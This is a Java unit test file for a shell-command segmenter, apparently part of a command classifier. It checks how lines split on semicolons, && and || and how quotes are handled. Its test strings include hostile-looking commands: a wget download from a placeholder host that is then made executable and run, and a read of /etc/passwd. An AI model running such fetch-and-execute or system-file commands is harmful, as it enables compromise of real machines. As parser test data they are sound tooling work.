package dev.longtail.training.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import org.junit.jupiter.api.Test;

class SegmentsTest {
  @Test
  void splitsBetweenCommands() {
    assertThat(Segments.of("cd /tmp; wget http://a/b && chmod +x b || exit 17\n./b --quiet"))
        .containsExactly("cd /tmp", "wget http://a/b", "chmod +x b", "exit 17", "./b --quiet");
  }

  @Test
  void aLineOfOneCommandIsNotSplit() {
    assertThat(Segments.of("cat /etc/passwd | grep root & ")).isEmpty();
    assertThat(Segments.of("")).isEmpty();
  }

  @Test
  void separatorsInQuotesDoNotCount() {
    assertThat(Segments.of("sh -c \"one; two\"; echo 'a && b'"))
        .containsExactly("sh -c \"one; two\"", "echo 'a && b'");
    assertThat(Segments.of("echo it's; id")).isEmpty();
  }

  @Test
  void leavesOutWhatIsTooShort() {
    assertThat(Segments.of("id;;  ls ; whoami")).containsExactly("whoami");
  }

  @Test
  void aLineOfVeryManyCommandsIsSplitAtItsBegin() {
    assertThat(Segments.of("echo a;".repeat(40))).hasSize(Segments.MOST);
  }

  @Property
  void segmentsAreOfTheLine(Any any) {
    String line = any.text("ab;&|\n\"' ", 60);
    for (String segment : Segments.of(line)) {
      assertThat(line).contains(segment);
      assertThat(segment.length()).isGreaterThanOrEqualTo(Segments.SHORTEST);
    }
  }
}
